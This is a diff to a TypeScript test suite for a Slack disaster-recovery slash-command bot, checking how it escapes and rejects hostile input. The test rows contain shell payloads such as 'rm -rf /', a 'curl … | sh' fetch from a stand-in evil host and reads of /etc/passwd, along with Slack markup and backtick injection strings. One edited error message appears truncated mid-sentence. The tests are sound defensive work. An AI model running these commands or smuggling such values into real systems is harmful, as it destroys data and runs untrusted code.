@@ -52,7 +52,7 @@ interface SlashRow {
 const unknown = (word: string, suggestion?: string): string[] =>
   suggestion ? [`Unknown command \`${word}\`. Did you mean \`/dr ${suggestion}\`?`] : [`Unknown command \`${word}\`. ${HELP_HINT}`];
 const badParam = (runbook: string, fragment: string): string[] => [`Parameters for ${runbook} are not valid:`, fragment];
-const notInThisChannel = (runbook: string): string[] => [`\`${runbook}\` changes production, so it runs only in an open incident's channel`, 'Nothing was requested.'];
+const notInThisChannel = (runbook: string): string[] => [`\`${runbook}\` changes production, so it may be requested only in`, 'Nothing was requested.'];
 
 const SLASH_ROWS: SlashRow[] = [
   // Unknown subcommands: typos, garbage, huge text, control characters, unicode tricks.
@@ -85,14 +85,14 @@ const SLASH_ROWS: SlashRow[] = [
   { name: 'shell: ; rm -rf /', text: '; rm -rf /', expect: unknown(';') },
   { name: 'shell: ping; rm -rf /', text: 'ping; rm -rf /', expect: unknown('ping;', 'ping') },
   { name: 'shell: $(reboot)', text: '$(reboot)', expect: unknown('$(reboot)') },
-  { name: 'shell: backticks', text: '`id`', expect: ['Unknown command ``id``.', HELP_HINT] },
-  { name: 'shell: && curl | sh', text: '&& curl https://evil.example/x.sh | sh', expect: unknown('&&') },
+  { name: 'shell: backticks', text: '`id`', expect: ['Unknown command `\u02CBid\u02CB`.', HELP_HINT] },
+  { name: 'shell: && curl | sh', text: '&& curl https://evil.example/x.sh | sh', expect: unknown('&amp;&amp;') },
   { name: 'shell: pipe', text: '| cat /etc/passwd', expect: unknown('|') },
-  { name: 'Slack markup <!channel>', text: '<!channel>', expect: unknown('<!channel>') },
-  { name: 'Slack markup <!here> before ping', text: '<!here> ping', expect: unknown('<!here>') },
-  { name: 'Slack markup user mention', text: '<@U0ADMIN01>', expect: unknown('<@U0ADMIN01>') },
-  { name: 'Slack markup link', text: '<https://evil.example|help>', expect: unknown('<https://evil.example|help>') },
-  { name: 'Slack markup channel link', text: '<#C0GENERAL|general>', expect: unknown('<#C0GENERAL|general>') },
+  { name: 'Slack markup <!channel>', text: '<!channel>', expect: unknown('&lt;!channel&gt;') },
+  { name: 'Slack markup <!here> before ping', text: '<!here> ping', expect: unknown('&lt;!here&gt;') },
+  { name: 'Slack markup user mention', text: '<@U0ADMIN01>', expect: unknown('&lt;@U0ADMIN01&gt;') },
+  { name: 'Slack markup link', text: '<https://evil.example|help>', expect: unknown('&lt;https://evil.example|help&gt;') },
+  { name: 'Slack markup channel link', text: '<#C0GENERAL|general>', expect: unknown('&lt;#C0GENERAL|general&gt;') },
   { name: 'an option instead of a command', text: '--help', expect: unknown('--help', 'help') },
   { name: '__proto__ as a command', text: '__proto__', expect: unknown('__proto__') },
   { name: 'constructor as a command', text: 'constructor', expect: unknown('constructor') },
@@ -162,8 +162,9 @@ const SLASH_ROWS: SlashRow[] = [
   { name: 'rollback --to-revision= empty', text: 'rollback api-gateway --to-revision=', expect: ['`--to-revision` needs a value.'] },
   { name: 'rollback unknown option', text: 'rollback api-gateway --yes', expect: ['Unknown option `--yes`.'] },
   { name: 'rollback outside a run channel', text: 'rollback api-gateway', channel: OTHER_CHANNEL, expect: notInThisChannel('rollback-deployment') },
-  { name: 'failover outside a run channel', text: 'failover', channel: OTHER_CHANNEL, expect: notInThisChannel('failover-region') },
-  { name: 'restore db outside a run channel', text: 'restore db prod-aurora --latest', channel: OTHER_CHANNEL, expect: notInThisChannel('restore-database-pitr') },
+  // healthUrl has no default (commands/README.md); the shortcuts cannot give it, so these go through `run`.
+  { name: 'failover outside a run channel', text: 'run failover-region healthUrl=http://127.0.0.1:9/health', channel: OTHER_CHANNEL, expect: notInThisChannel('failover-region') },
+  { name: 'restore db outside a run channel', text: 'run restore-database-pitr cluster=prod-aurora healthUrl=http://127.0.0.1:9/health', channel: OTHER_CHANNEL, expect: notInThisChannel('restore-database-pitr') },
   { name: 'drill outside a run channel', text: 'drill', channel: OTHER_CHANNEL, expect: notInThisChannel('dr-drill') },
   { name: 'failover to region mars', text: 'failover --region mars', expect: badParam('failover-region', '`drRegion`: `mars` does not match') },
   { name: 'failover region with shell', text: 'failover --region "us-east-1; rm -rf /"', expect: badParam('failover-region', '`drRegion`: `us-east-1; rm -rf /` does not match') },
@@ -205,7 +206,7 @@ const SLASH_ROWS: SlashRow[] = [
   { name: 'show an unknown run', text: 'show rghost001', expect: ['There is no run `rghost001`. List recent runs with `runs`.'] },
   { name: 'show a 64-char unknown run', text: `show ${'r'.repeat(64)}`, expect: [`There is no run \`${'r'.repeat(64)}\`.`] },
   { name: 'show two runs', text: 'show r1 r2', expect: ['`show` takes one run id.'] },
-  { name: 'show a mention', text: 'show <@U0BOB00001>', expect: ['`show` needs a run id like r7k2m9x4, not `<@U0BOB00001>`.'] },
+  { name: 'show a mention', text: 'show <@U0BOB00001>', expect: ['`show` needs a run id like r7k2m9x4, not `&lt;@U0BOB00001&gt;`.'] },
   { name: 'audit an unknown run', text: 'audit rghost001', expect: ['There is no run `rghost001`.'] },
   { name: 'audit a path', text: 'audit ../../etc/passwd', expect: ['`audit` needs a run id like r7k2m9x4, not `../../etc/passwd`.'] },
   { name: 'audit $(id)', text: 'audit $(id)', expect: ['`audit` needs a run id like r7k2m9x4, not `$(id)`.'] },
@@ -242,6 +243,26 @@ const SLASH_ROWS: SlashRow[] = [
   { name: 'unknown status in a channel with no incident', text: 'status fixed "done"', expect: ['This channel has no incident.'] },
   { name: 'status <!channel>', text: 'status <!channel> "x y z"', expect: ['This channel has no incident.'] },
   { name: 'status with a 10 kB message', text: `status resolved ${'x'.repeat(KB10)}`, channel: OTHER_CHANNEL, expect: ['This channel has no incident.'] },
+
+  // Placeholder-shaped parameters: only the planner makes ‹…›; a value holding ‹ or › is refused before anything is stored.
+  { name: 'run with a placeholder as a value', text: 'run readiness-check cluster=‹x›', expect: badParam('readiness-check', '`cluster`: `‹x›` contains ‹ or ›, which are not allowed in a parameter value') },
+  { name: 'run with a planner-shaped placeholder', text: 'run readiness-check cluster=‹steps.check.outputs.cluster›', expect: badParam('readiness-check', '`cluster`: `‹steps.check.outputs.cluster›` contains ‹ or ›') },
+  { name: 'run with a placeholder inside a value', text: 'run readiness-check cluster=prod‹steps.a.outputs.b›', expect: badParam('readiness-check', '`cluster`: `prod‹steps.a.outputs.b›` contains ‹ or ›') },
+  { name: 'run with a lone › in a value', text: 'run readiness-check cluster=prod›', expect: badParam('readiness-check', 'contains ‹ or ›') },
+  { name: 'restore db --to a placeholder', text: 'restore db prod-aurora --to ‹steps.restore.outputs.restorePoint›', expect: badParam('restore-database-pitr', '`to`: `‹steps.restore.outputs.restorePoint›` contains ‹ or ›') },
+  { name: 'rollback -n a placeholder', text: 'rollback api-gateway -n ‹steps.a.outputs.ns›', expect: badParam('rollback-deployment', '`namespace`: `‹steps.a.outputs.ns›` contains ‹ or ›') },
+
+  // Code spans: a backtick in a user value cannot close the span; markup inside is escaped.
+  { name: 'backtick breaking out of a command name', text: 'pi`ng <!channel>`', expect: ['Unknown command `pi\u02CBng`.'] },
+  { name: 'backtick and <!channel> in a parameter value', text: 'run readiness-check cluster="a`<!channel>`b"', expect: badParam('readiness-check', '`cluster`: `a\u02CB&lt;!channel&gt;\u02CBb` does not match') },
+  { name: 'backtick in a URL parameter', text: 'run readiness-check cluster="https://x.example/?q=`*bold*`"', expect: badParam('readiness-check', '`cluster`: `https://x.example/?q=\u02CB*bold*\u02CB` does not match') },
+  { name: 'backtick in an unknown option', text: 'run readiness-check --f`orce', expect: ['Unknown option `--f\u02CBorce`.'] },
+  { name: 'backtick in a run id', text: 'show r`<!here>`', expect: ['`show` needs a run id like r7k2m9x4, not `r\u02CB&lt;!here&gt;\u02CB`.'] },
+  { name: 'mention as an extra positional', text: 'run readiness-check <@U0ADMIN01>', expect: ['`run` takes parameters as key=value; `&lt;@U0ADMIN01&gt;` is not one.'] },
+  { name: 'link as what to restore', text: 'restore <https://evil.example|db>', expect: ['`restore` restores db or cluster, not `&lt;https://evil.example|db&gt;`.'] },
+  { name: 'a 40-emoji command cut by grapheme', text: '\u{1F525}'.repeat(40), expect: [`Unknown command \`${'\u{1F525}'.repeat(20)}…\`.`] },
+  { name: 'emoji ZWJ sequences cut whole', text: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(10), expect: [`Unknown command \`${'\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(5)}…\`.`] },
+  { name: 'unknown runbook named <!channel>', text: 'run <!channel>', expect: ['There is no runbook `&lt;!channel&gt;`.'] },
 ];
 
 /** Empty input is `help` (documented), never an action. */
